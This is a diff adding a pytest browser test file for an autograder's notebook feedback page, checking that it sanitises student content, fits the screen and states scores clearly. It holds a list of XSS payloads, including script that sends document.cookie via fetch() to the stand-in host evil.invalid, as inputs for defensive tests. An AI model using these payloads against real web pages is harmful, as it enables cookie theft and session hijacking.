@@ -1,0 +1,285 @@
+"""The feedback page in a real browser: what it says, how it fits, and that nothing in it acts."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from browsing import chromium, opened
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+
+from autograder import safe
+from autograder.page import page, told
+
+PIXEL = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
+)
+RUN = "document.title='ran';fetch('http://evil.invalid/'+document.cookie)"
+SCRIPT = f"<script>{RUN}</script>"
+HOSTILE = [
+    SCRIPT,
+    f"text {SCRIPT} text",
+    f'<img src=x onerror="{RUN}">',
+    f'text <img src="http://evil.invalid/p.png" onload="{RUN}"> ![pixel](http://evil.invalid/q.png)',
+    "![svg](attachment:a.svg) ![png](attachment:b.png) ![no](attachment:nothing.png)",
+    f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">x</a></svg>',
+    f'<details open ontoggle="{RUN}"><summary onfocus="{RUN}" autofocus>s</summary></details>',
+    '<iframe src="http://evil.invalid/"></iframe><object data="http://evil.invalid/"></object>',
+    '<embed src="http://evil.invalid/"><video src="http://evil.invalid/v" autoplay></video>',
+    '<link rel="stylesheet" href="http://evil.invalid/s.css"><base href="http://evil.invalid/">',
+    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
+    "<style>@import 'http://evil.invalid/s.css'; main { display: none }</style>",
+    '<p style="background:url(http://evil.invalid/b.png);position:fixed;top:0">covers</p>',
+    f'<form action="//evil.invalid/"><input autofocus onfocus="{RUN}"><button>a</button></form>',
+    f'[click](javascript:{RUN}) <a href="java&#10;script:{RUN}">b</a> [d](data:text/html,{SCRIPT})',
+    f'<math><mtext></p><img src=x onerror="{RUN}"></mtext></math><template>{SCRIPT}</template>',
+    f"$\\text{{{SCRIPT}}}$ and $\\href{{javascript:{RUN}}}{{x}}$ and $x^2$",
+    f'$$\\class{{x" onmouseover="{RUN}}}{{y}}$$',
+    f"<scr<script>ipt>{RUN}</scr</script>ipt> <!-- --!> {SCRIPT} --> <![CDATA[ {SCRIPT} ]]>",
+    f"```html\n{SCRIPT}\n```\n\n    {SCRIPT}\n\n`{SCRIPT}`",
+    f'"><{SCRIPT} </pre></main></body></html>{SCRIPT}',
+    '<a href="#check-output_size" id="check-output_size" name="body" target="_top">anchor</a>',
+]
+MESSAGE = """output_size: 3 of 7 cases pass.
+  Called   output_size(size, kernel_size, stride=2)
+  Problem  it returned 7, which is wrong
+  Line     line 3 of the cell, in output_size: return size // stride
+  Mistake  The last + 1 is missing.
+  Hint     Count the first position, too.
+  Passed   plain 3/4, all together 0/3"""
+
+
+def score(name, points, of, message, review=None):
+    passed = points == of
+    return dict(points=points, of=of, passed=passed, message=message, review=review)
+
+
+def mark(cell, **fields):
+    cell.metadata["nbgrader"] = {"schema_version": 3, "locked": False, **fields}
+    return cell
+
+
+def student_page(texts=(), *, scores=None, extra=(), late=0.0, reason=None, repairs=(), **check):
+    """A page with one exercise, whose texts come from a student."""
+    answer = new_code_cell("\n".join(["def output_size():", *texts]), outputs=list(extra))
+    cells = [
+        new_markdown_cell("# Title\n\nRead this."),
+        new_markdown_cell("## 1. Count\n\nHow many? $D\\,(K - 1) + 1$\n\n$$\nout[i, j]\n$$"),
+        mark(answer, grade_id="solution_output_size", solution=True, grade=False, comment=""),
+        mark(
+            new_code_cell('check("output_size")'),
+            **{
+                "grade_id": "output_size",
+                "solution": False,
+                "grade": True,
+                "score": 1.5,
+                "points": 2.0,
+                "by_person": False,
+                "waiting": False,
+                **check,
+            },
+        ),
+        *[new_markdown_cell(text, id=f"extra_{i}") for i, text in enumerate(texts)],
+    ]
+    for cell in cells:
+        if cell.id.startswith("extra_"):
+            cell.attachments = {
+                "a.svg": {"image/svg+xml": f"<svg onload='{RUN}'>"},
+                "b.png": {"image/png": PIXEL},
+            }
+    known = {
+        "title": "Demo",
+        "scores": scores or {"output_size": score("output_size", 1.5, 2.0, MESSAGE)},
+        "repairs": list(repairs),
+        "reason": reason,
+        "seed": 987654321,
+    }
+    fields = {"student": "ann", "assignment": "01_demo", "score": 1.5 - late, "max_score": 2.0}
+    notebook = new_notebook(cells=cells, metadata={"cnncourse": known})
+    return notebook, {**fields, "late_penalty": late}
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with chromium() as started:
+        yield started
+
+
+@pytest.fixture
+def visit(browser, tmp_path):
+    def open_text(text, **options):
+        path = tmp_path / "page.html"
+        path.write_text(text, encoding="utf-8")
+        return opened(browser, path.as_uri(), **options)
+
+    return open_text
+
+
+def hostile_page():
+    outputs = [
+        new_output("stream", name="stdout", text=SCRIPT),
+        new_output("display_data", data={"text/html": SCRIPT, "text/plain": f"plain {SCRIPT}"}),
+        new_output("display_data", data={"image/svg+xml": f"<svg onload='{RUN}'></svg>"}),
+        new_output("display_data", data={"application/javascript": RUN}),
+        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"a": 1}}),
+        new_output("display_data", data={"text/latex": f"${SCRIPT}$", "text/markdown": SCRIPT}),
+        new_output("display_data", data={"image/png": f'x" onerror="{RUN}'}),
+        new_output("display_data", data={"image/png": PIXEL, "text/html": SCRIPT}),
+        new_output("error", ename=f"Bad{SCRIPT}", evalue=SCRIPT, traceback=[SCRIPT, "Traceback"]),
+    ]
+    message = MESSAGE.replace("it returned 7", f"it raised Bad{SCRIPT}: {SCRIPT}")
+    notebook, resources = student_page(
+        HOSTILE,
+        scores={"output_size": score("output_size", 0, 2.0, message)},
+        extra=outputs,
+        repairs=[f"The cell {SCRIPT} is missing."],
+        comment=SCRIPT,
+    )
+    notebook.cells[2].metadata["nbgrader"]["comment"] = f"Well done! {SCRIPT}"
+    notebook.metadata["cnncourse"]["title"] = f"Demo {SCRIPT}"
+    return page(notebook, {**resources, "student": f"ann{SCRIPT}"})
+
+
+def test_nothing_of_a_student_acts(visit):
+    with visit(hostile_page()) as (page, problems):
+        page.mouse.move(300, 300)
+        for details in page.locator("details > summary").all():
+            details.click()
+        page.wait_for_timeout(200)
+        assert problems == []  # the policy of the page had nothing to refuse, either
+        assert page.title().startswith("Demo <script>") and "ran" != page.title()
+        assert page.locator("script, iframe, object, embed, link, base, form, svg").count() == 0
+        handlers = """() => [...document.querySelectorAll("*")].flatMap(e =>
+            e.getAttributeNames().filter(n => n.startsWith("on") || n === "style" || n === "id")
+            .map(n => n + "=" + e.getAttribute(n)))"""
+        assert page.evaluate(handlers) == ["id=top", "id=check-output_size"]
+        hrefs = page.evaluate("[...document.links].map(a => a.href.split('#')[1])")
+        assert set(hrefs) == {"check-output_size", "top"}
+        pictures = "[...document.images].map(i => [i.src.slice(0, 22), i.naturalWidth])"
+        shown = [source for source in page.evaluate(pictures) if source[0]]
+        assert shown == [["data:image/png;base64,", 1]] * 2  # an output and an attachment
+        text = page.locator("main").inner_text()
+        assert f"Bad{SCRIPT}: {SCRIPT}" in text  # it is there, as text
+        assert "Well done!" in text and "Traceback" not in text
+
+
+def test_the_policy_is_a_second_wall(visit):
+    """A script that came through, and a picture from elsewhere, would be stopped all the same."""
+    holed = hostile_page().replace("<main>", f"{SCRIPT}<img src='http://evil.invalid/'><main>")
+    with visit(holed) as (page, problems):
+        page.wait_for_timeout(100)
+        assert page.title() != "ran"
+        assert problems and all("Content Security Policy" in problem for problem in problems)
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+def test_the_page_fits_and_is_read_without_scrolling_sideways(visit, width, theme):
+    text, *_ = "x" * 300, None
+    notebook, resources = student_page(["a = 1  # " + text], repairs=["The cell " + text])
+    with visit(page(notebook, resources), width=width, theme=theme) as (shown, problems):
+        for details in shown.locator("details > summary").all():
+            details.click()
+        assert shown.evaluate("document.scrollingElement.scrollWidth") <= width
+        assert shown.locator("math").count() == 2 and "$" not in shown.locator("main").inner_text()
+        assert problems == []
+        ratio = shown.evaluate(CONTRAST)
+        assert ratio >= 4.5, f"the text is hard to read: {ratio:.1f} : 1"
+
+
+CONTRAST = """() => {
+  const paint = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
+  const light = colour => {
+    paint.fillStyle = colour; paint.fillRect(0, 0, 1, 1);
+    const [r, g, b] = [...paint.getImageData(0, 0, 1, 1).data].slice(0, 3)
+      .map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  const behind = e => {
+    for (; e; e = e.parentElement) {
+      const colour = getComputedStyle(e).backgroundColor;
+      if (colour !== 'rgba(0, 0, 0, 0)') return colour;
+    }
+  };
+  return Math.min(...[...document.querySelectorAll('main *')]
+    .filter(e => [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()))
+    .map(e => [light(getComputedStyle(e).color), light(behind(e))])
+    .map(([a, b]) => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)));
+}"""
+
+
+def test_the_page_says_each_thing_once(visit):
+    notebook, resources = student_page(["    return 1"], late=0.5, repairs=["One was mended."])
+    notebook.cells[2].metadata["nbgrader"]["comment"] = "Look at **padding** again."
+    with visit(page(notebook, resources)) as (shown, problems):
+        text = shown.locator("main").inner_text()
+        for sentence in (
+            "Feedback for ann",
+            "1 of 2 points",
+            "Handed in late: 0.5 points were taken off the 1.5 below.",
+            "One was mended.",
+            "output_size(size, kernel_size, stride=2)",
+            "It returned 7, which is wrong",
+            "line 3 of the cell",
+            "The last + 1 is missing.",
+            "Count the first position, too.",
+            "3 of 7 cases pass.",
+            "all together 0/3",
+            "Look at padding again.",
+            "right in part",
+        ):
+            assert text.count(sentence) == 1, sentence
+        assert "987654321" not in shown.content()
+        shown.click("text=output_size >> nth=0")
+        assert shown.url.endswith("#check-output_size") and problems == []
+
+
+def test_what_a_person_did_and_will_do_is_said(visit):
+    waiting = score("output_size", 0, 2.0, "Not graded: it broke.", review="it broke")
+    notebook, resources = student_page(scores={"output_size": waiting}, score=0.0, waiting=True)
+    with visit(page(notebook, resources)) as (shown, _):
+        text = shown.locator("main").inner_text()
+        assert "A person will look at" in text and text.count("it broke") == 1
+    notebook, resources = student_page(score=2.0, by_person=True)
+    with visit(page(notebook, resources)) as (shown, _):
+        text = shown.locator("main").inner_text()
+        assert "right, by a person" in text and "These points were set by a person." in text
+
+
+def test_a_refused_submission_says_the_reason_once(visit):
+    known = score("output_size", 0, 2.0, "Not graded: it is empty.", review="it is empty")
+    notebook, resources = student_page(
+        scores={"output_size": known}, reason="it is empty", score=0.0, waiting=True
+    )
+    notebook.cells = [
+        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")
+    ]
+    with visit(page(notebook, {**resources, "score": 0.0})) as (shown, problems):
+        text = shown.locator("main").inner_text()
+        assert "could not be graded" in text and text.count("it is empty") == 1
+        assert "output_size" in text and problems == []
+
+
+def test_a_message_is_taken_apart():
+    headline, entries = told(MESSAGE)
+    assert headline == "output_size: 3 of 7 cases pass."
+    assert dict(entries)["Passed"] == [("plain", 3, 4), ("all together", 0, 3)]
+    assert [title for title, _ in entries] == re.findall(r"^  (\w+)", MESSAGE, re.MULTILINE)
+    assert told("pad2d: no function of this name was left.") == (
+        "pad2d: no function of this name was left.",
+        [],
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["<div>" * 5000, ">" * 5000, "[" * 5000, "$" * 5001, "*a " * 5000, "\ud800", "x" * 200_000]
+    + ["$" + "\\frac{" * 500 + "$", "formula-0." * 100, "&#xE000;0"],
+)
+def test_strange_text_stops_nothing(text):
+    assert isinstance(safe.markdown(text), str)
+
+
+def test_a_formula_that_is_not_known_is_shown_as_it_was_written():
+    assert "<math" in safe.formula(r"\frac{H + 2p - K}{s}", display=True)
+    assert safe.formula(r"\nothing{<b>}") == r"<code>\nothing{&lt;b&gt;}</code>"
